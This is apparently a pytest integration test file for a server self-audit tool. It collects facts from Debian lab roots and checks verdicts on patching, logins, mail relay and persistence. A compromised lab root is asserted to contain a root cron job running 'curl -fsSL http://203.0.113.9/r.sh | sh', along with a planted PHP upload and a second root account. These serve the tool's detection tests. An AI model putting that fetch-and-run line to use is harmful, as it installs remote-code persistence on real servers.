"""Real Debian systems, looked at from the inside in every way that there is: the same facts, the right verdicts, and nothing changed."""

from __future__ import annotations

import contextlib
import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from selfaudit.case import Target
from selfaudit.checks import all_checks
from selfaudit.engine import hosts
from selfaudit.engine.evidence import Record
from selfaudit.engine.judge import judge_one
from selfaudit.facts import Fact, Request
from selfaudit.facts.host import HostPart, HostReport, HostScope, PartStatus, ScopeAddress
from selfaudit.net import open_net
from selfaudit.net.ssh import HostKey, Login
from selfaudit.policy import Policy
from selfaudit.protocols.host_scope import moment
from selfaudit.settings import DnsSettings, ScopeSettings, Settings
from selfaudit.ssh_pins import read_host_key
from tests.lab import roots
from tests.lab.laboratory import Laboratory
from tests.lab.roots import ADDRESSES, KINDS, SECRETS, Live
from tests.net.ssh_fakes import person
from tests.packages import find

pytestmark = pytest.mark.lab

SCRIPT = hosts.collector_script()
# What passes between two looks: the clock, the load, and the shell that was asked for.
PASSING = ("time=", "shell=", "options=", "uptime=", "boot=")
# What the disk alone tells; a rescue system must read it as the server itself does.
ON_DISK = (
    "os-release", "os-extra", "packages.manager", "packages.upgrade", "packages.security", "packages.held", "packages.lists",
    "packages.sources", "packages.broken", "packages.of-interest", "packages.installed", "packages.integrity", "automation",
    "software.runtimes", "software.panels", "software.sites", "software.plugins", "login.sshd-files", "login.keys", "login.accounts",
    "login.admins", "persistence.cron", "persistence.timers", "persistence.preload", "persistence.files", "persistence.accounts",
    "persistence.uploads", "mail.queue",
)  # fmt: skip
NEEDS_A_RUNNING_SYSTEM = ("kernel", "time", "listeners", "reboot.flag", "reboot.services", "login.sshd", "firewall.nft")
NOBODY = 65534


@pytest.fixture(scope="module")
def made() -> Iterator[dict[str, Path]]:
    """The roots; if the archive cannot be reached, this fails and says so. At the end every file is as it was, read anew."""
    found = roots.roots()
    before = {name: roots.snapshot(root, anew=True) for name, root in found.items()}
    yield found
    assert {name: roots.snapshot(root, anew=True) for name, root in found.items()} == before


@contextlib.contextmanager
def unchanged(root: Path) -> Iterator[None]:
    """Nothing below a root may be another afterwards."""
    before = roots.snapshot(root)
    yield
    after = roots.snapshot(root)
    assert sorted(path for path in before.keys() | after.keys() if before.get(path) != after.get(path)) == []


def rescued(root: Path, *options: str) -> str:
    """What the collector of this machine writes about a root."""
    return roots.run(["/bin/sh", "-s", "--", "--root", str(root), *options], SCRIPT)


def read(text: str | bytes, folder: Path) -> HostReport:
    """The report of a file."""
    path = folder / "facts.txt"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("ascii"))
    report = hosts.read_host_file(path)
    assert (report.complete, report.genuine, report.damage) == (True, True, ())
    return report


def steady(report: HostReport) -> dict[str, HostPart]:
    """The parts, without what passes."""
    kept = {p.name: replace(p, lines=tuple(line for line in p.lines if not line.startswith(PASSING))) for p in report.parts}
    kept.pop("resources")
    return kept


def judged(report: HostReport, check_id: str, policy: Policy | None = None) -> tuple[str, set[str]]:
    """Outcome and tags of a rule on a report of a case to which the server's address belongs."""
    check = all_checks()[check_id]
    scope = HostScope(report.name, (ScopeAddress(ADDRESSES[report.name.partition(".")[0]], "named"),), ("shop.test",))
    known: dict[str, Fact] = {"host.report": report, "host.scope": scope}
    facts = [known[need.kind] for need in check.spec.needs]
    records = [Record(f"e{i}", Request(fact.kind, report.name), "", 0, fact) for i, fact in enumerate(facts)]
    result = judge_one(check, Target("host", report.name), list(records), policy or Policy())
    assert result.outcome != "bug", result.reason
    return result.outcome, {f.tag for f in result.findings}


RUNNING = [
    ("current", "patch.os-support", "pass", {"OS_LONG_TERM_SUPPORT"}),
    ("current", "patch.updates", "pass", {"UPDATES_NONE_WAIT"}),
    ("current", "patch.automation", "pass", {"AUTOMATION_WORKS"}),
    ("current", "host.login", "warn", {"LOGIN_PASSWORDS"}),  # Debian's own setting; root has no password here
    ("current", "host.persistence", "warn", {"PERSISTENCE_CHANGES_RECENT"}),  # the key with which the laboratory logs in
    ("current", "host.mail-config", "not-applicable", {"MAIL_CONFIG_NO_SERVERS"}),
    ("ended", "patch.os-support", "fail", {"OS_EXTENDED_NOT_SUBSCRIBED"}),
    ("ended", "patch.automation", "warn", {"AUTOMATION_ABSENT"}),
    ("behind", "patch.os-support", "pass", {"OS_LONG_TERM_SUPPORT"}),
    ("behind", "patch.updates", "fail", {"UPDATES_SECURITY"}),
    ("behind", "patch.automation", "warn", {"AUTOMATION_ABSENT"}),
    ("ended", "host.login", "fail", {"LOGIN_ROOT_PASSWORD", "LOGIN_SECOND_ROOT"}),
    ("ended", "host.persistence", "fail", {"PERSISTENCE_JOBS", "PERSISTENCE_UPLOADS"}),
    ("behind", "host.login", "fail", {"LOGIN_ROOT_PASSWORD", "LOGIN_SECOND_ROOT", "LOGIN_KEYS_CHANGED"}),
    # Postfix is installed and open to everybody, but does not run; whoever looks at the disk alone has to expect that it will.
    ("behind", "host.mail-config", "warn", {"MAIL_CONFIG_OPEN_BUT_NOT_LISTENING"}),
    ("behind", "host.persistence", "fail", {"PERSISTENCE_JOBS", "PERSISTENCE_UPLOADS"}),
]
RESCUED = [
    ("current", "patch.updates", "pass", {"UPDATES_NONE_WAIT"}),
    ("current", "patch.automation", "pass", {"AUTOMATION_WORKS"}),
    ("ended", "patch.os-support", "fail", {"OS_EXTENDED_NOT_SUBSCRIBED"}),
    ("behind", "host.login", "fail", {"LOGIN_ROOT_PASSWORD", "LOGIN_SECOND_ROOT"}),
    ("behind", "patch.updates", "fail", {"UPDATES_SECURITY"}),
    ("behind", "host.mail-config", "fail", {"MAIL_CONFIG_OPEN_RELAY"}),
    ("behind", "host.persistence", "fail", {"PERSISTENCE_JOBS", "PERSISTENCE_UPLOADS"}),
]


@pytest.fixture(scope="module")
def reports(made: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], HostReport]:
    """(root, "running" or "rescued") -> its report; each made while the root was watched."""
    found = {}
    folder = tmp_path_factory.mktemp("reports")
    for name, root in made.items():
        with unchanged(root), roots.live(root) as live:
            found[name, "running"] = read(live.collect(SCRIPT, "--packages"), folder)
        with unchanged(root):
            found[name, "rescued"] = read(rescued(root, "--packages"), folder)
    return found


@pytest.mark.parametrize(
    ("root", "way", "check", "outcome", "tags"),
    [pytest.param(r, way, *rest) for way, rows in (("running", RUNNING), ("rescued", RESCUED)) for r, *rest in rows],
)
def test_verdicts(
    reports: dict[tuple[str, str], HostReport], root: str, way: str, check: str, outcome: str, tags: set[str]
) -> None:
    found = judged(reports[root, way], check)
    assert found[0] == outcome, found
    assert tags <= found[1], found


def test_what_came_since_an_incident_weighs_more(reports: dict[tuple[str, str], HostReport]) -> None:
    report = reports["behind", "rescued"]
    outcome, tags = judged(report, "host.persistence", Policy(suspended=moment(report.taken)))
    assert outcome == "fail"
    assert {"PERSISTENCE_JOBS", "PERSISTENCE_UPLOADS_NEW", "PERSISTENCE_CHANGES_SINCE"} <= tags


@pytest.mark.parametrize("name", KINDS)
def test_a_rescue_system_reads_the_disk_as_the_server_does(reports: dict[tuple[str, str], HostReport], name: str) -> None:
    running, rescued_ = reports[name, "running"], reports[name, "rescued"]
    assert (running.name, running.machine, running.rescue) == (rescued_.name, rescued_.machine, False)
    assert rescued_.rescue
    for part in ON_DISK:
        assert running.part(part) == rescued_.part(part), part
    assert len(running.lines("packages.installed") or ()) > 100
    for part in NEEDS_A_RUNNING_SYSTEM:
        found = rescued_.part(part)
        assert found is not None
        assert (found.status, found.lines, found.note) == (PartStatus.SKIPPED, (), "rescue"), part
    assert running.lines("addresses") == ("lo|127.0.0.1/8", "lo|::1/128", f"eth0|{ADDRESSES[name]}/24")
    assert rescued_.lines("addresses") == (f"/etc/network/interfaces|{ADDRESSES[name]}/24",)


def test_what_is_on_the_disks(reports: dict[tuple[str, str], HostReport]) -> None:
    behind = reports["behind", "running"]
    assert behind.values("os-release")["VERSION_CODENAME"] == "bookworm"
    upgrades = [line for line in behind.lines("packages.upgrade") or () if line.startswith("Inst ")]
    assert upgrades
    assert all("Debian-Security" in line for line in upgrades)
    assert [r[:4] for r in behind.rows("login.accounts", 5) if r[3] == "set"] == [
        ["shop", "1000", "/bin/bash", "set"],
        ["support", "0", "/bin/bash", "set"],
    ]
    assert behind.rows("software.sites", 4) == [["wordpress", "/var/www/shop", "6.4.1", "root"]]
    assert [r[0] for r in behind.rows("persistence.uploads", 3)] == ["/var/www/shop/wp-content/uploads/2026/cache.php"]
    assert "curl -fsSL http://203.0.113.9/r.sh | sh" in {
        r[3].removeprefix("*/5 * * * * root ") for r in behind.rows("persistence.cron", 4)
    }
    current = reports["current", "running"]
    assert not [line for line in current.lines("packages.upgrade") or () if line.startswith("Inst ")]
    assert ["unattended-upgrades", "enabled", "yes"] in current.rows("automation", 3)


def test_no_secret_is_in_any_report(reports: dict[tuple[str, str], HostReport], made: dict[str, Path]) -> None:
    hashes = [line.split(":")[1] for line in (made["behind"] / "etc/shadow").read_text("ascii").splitlines() if "$" in line]
    assert len(hashes) == 2
    for report in reports.values():
        text = "\n".join(line for part in report.parts for line in part.lines)
        assert not [secret for secret in (*SECRETS, *hashes) if secret in text]


@contextlib.contextmanager
def sshd(live: Live) -> Iterator[int]:
    """OpenSSH of a root at a port of loopback. Each connection is handed to a server of its own, as inetd does, since a root has another network."""
    command = live.command("/usr/sbin/sshd", "-i", "-f", "/etc/ssh/sshd_config", "-o", "UsePAM=no", "-o", "UseDNS=no")
    running: list[subprocess.Popen[bytes]] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _peer = server.accept()
                    with connection:
                        running.append(
                            subprocess.Popen(
                                command, stdin=connection.fileno(), stdout=connection.fileno(), stderr=subprocess.DEVNULL
                            )
                        )

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield server.getsockname()[1]
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join(10)
            for process in running:
                process.wait(10)


async def over_ssh(live: Live) -> HostReport:
    """The report as it comes when a person logs in."""
    net = open_net(Settings(scope=ScopeSettings(allow_reserved=True), dns=DnsSettings(resolvers=("127.0.0.1",))), keys={})
    try:
        with sshd(live) as port:
            login = Login("root", "127.0.0.1", port, (roots.key(),), agent=False)
            (key,) = await hosts.fetch_keys(net, login)
            own: HostKey = read_host_key((live.root / "etc/ssh/ssh_host_ed25519_key.pub").read_text("ascii"))
            assert key == own
            report = await hosts.collect_ssh(net, login, key)
    finally:
        net.close()
    assert (report.via, report.address, report.login) == ("ssh", "127.0.0.1", "root@127.0.0.1")
    assert report.host_key == own.fingerprint
    assert (report.complete, report.genuine, report.damage) == (True, True, ())
    return report


@pytest.mark.parametrize("name", KINDS)
async def test_three_ways_one_report(name: str, made: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    person(tmp_path, monkeypatch)
    root = made[name]
    with roots.live(root) as live:
        with unchanged(root):
            fetched = await over_ssh(live)
        with unchanged(root):
            filed = read(text := live.collect(SCRIPT), tmp_path)
        with unchanged(root):
            blocks = live.collect(SCRIPT, "--compact")
    pasted = hosts.read_host_text(f"root@{name}:~# sh collect.sh --compact\n{blocks}root@{name}:~#\n")
    assert (filed.via, pasted.via) == ("file", "block")
    assert steady(fetched) == steady(filed) == steady(pasted)
    same = replace(filed, via="", taken="", received="", parts=(), sha256="")
    for other in (fetched, pasted):
        assert replace(other, via="", taken="", received="", parts=(), sha256="", address="", login="", host_key="") == same
    # One text on two ways: nothing at all differs, not even its check sum.
    again = hosts.read_host_text("\r\n".join(["console", *text.splitlines(), ""]))
    assert replace(again, via="file", received=filed.received) == filed
    for check in ("patch.updates", "host.login", "host.persistence"):
        assert judged(fetched, check) == judged(filed, check) == judged(pasted, check)


def test_every_shell_writes_the_same(made: dict[str, Path], tmp_path: Path) -> None:
    root = made["behind"]
    shells = {"dash": ["dash"], "bash": ["bash", "--posix"], "busybox": ["busybox", "sh"], "mksh": ["mksh"]}
    found = {}
    for name, (program, *options) in shells.items():
        with unchanged(root):
            path = find(program)
            assert path, f"the laboratory needs {program}: run `make system-packages`"
            text = roots.run([path, *options, "-s", "--", "--root", str(root)], SCRIPT)
        found[name] = read(text, tmp_path)
        assert found[name].values("meta")["shell"] == name
    parts = {name: steady(report) for name, report in found.items()}
    assert parts["bash"] == parts["dash"]
    assert parts["busybox"] == parts["dash"]
    assert parts["mksh"] == parts["dash"]
    with unchanged(root), roots.live(root) as live:
        inside = {shell: steady(read(live.collect(SCRIPT, shell=(shell,)), tmp_path)) for shell in ("/bin/dash", "/bin/bash")}
    assert inside["/bin/dash"] == inside["/bin/bash"]


def test_without_any_right(made: dict[str, Path], tmp_path: Path) -> None:
    root = made["behind"]
    with unchanged(root), roots.live(root) as live:
        enter = ["chroot", f"--userspec={NOBODY}:{NOBODY}", str(root), "/bin/sh", "-s"]
        report = read(roots.run([*live.command()[:-2], *enter], SCRIPT), tmp_path)
    assert not report.root
    assert {a[3] for a in report.rows("login.accounts", 5)} == {"-"}
    assert judged(report, "patch.updates") == ("fail", {"UPDATES_SECURITY"})
    # What could not be looked at is neither good nor bad.
    for check in ("host.login", "host.persistence"):
        assert judged(report, check)[0] in ("fail", "warn", "inconclusive")
    with unchanged(root):
        careful = read(rescued(root, "--no-chroot"), tmp_path)
    found = careful.part("packages.upgrade")
    assert found is not None
    assert (found.status, found.note) == (PartStatus.SKIPPED, "no-chroot")
    assert judged(careful, "patch.updates")[0] == "inconclusive"
    assert judged(careful, "host.mail-config")[0] == "fail"


def test_a_whole_audit(made: dict[str, Path], lab: Laboratory, tmp_path: Path) -> None:
    files = []
    for name in ("current", "behind"):
        path = tmp_path / f"{name}.txt"
        with unchanged(made[name]):
            path.write_text(rescued(made[name]), "ascii")
        files.append(path)

    def audit(*options: str) -> tuple[int, dict[tuple[str, str], str]]:
        only = "patch.os-support,patch.updates,patch.automation,host.login,host.mail-config,host.persistence"
        command = [sys.executable, "-W", "error", "-m", "selfaudit", "audit", *options, "--only", only]
        done = subprocess.run(
            [*command, "--settings", str(lab.folder / "lab.toml"), "--json", "-"],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert done.stderr == "", done.stderr
        data = json.loads(done.stdout)
        return done.returncode, {(r["target"]["value"], r["check"]): r["outcome"] for r in data["results"]}

    code, found = audit(ADDRESSES["behind"], ADDRESSES["current"], "--host-facts", str(files[0]), "--host-facts", str(files[1]))
    assert code == 1
    assert found["behind.shop.test", "patch.updates"] == "fail"
    assert found["behind.shop.test", "host.mail-config"] == "fail"
    assert found["behind.shop.test", "host.persistence"] == "fail"
    assert found["current.shop.test", "patch.updates"] == "pass"
    assert found["current.shop.test", "patch.automation"] == "pass"
    assert found["current.shop.test", "patch.os-support"] == "pass"
    # The file of a server that is not in the case proves nothing, good or bad.
    code, found = audit(ADDRESSES["current"], "--host-facts", str(files[1]))
    assert {outcome for (target, _check), outcome in found.items() if target == "behind.shop.test"} == {"inconclusive"}
    assert code != 0


def test_an_archive_that_cannot_be_reached_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(roots, "FOLDER", tmp_path / "roots")
    monkeypatch.setattr(roots, "mirrors", lambda: ("file:///nowhere/debian", "file:///nowhere/debian-security"))
    with pytest.raises(roots.ArchiveError, match=r"is the Debian archive \(file:///nowhere/debian\) reachable"):
        roots.roots()
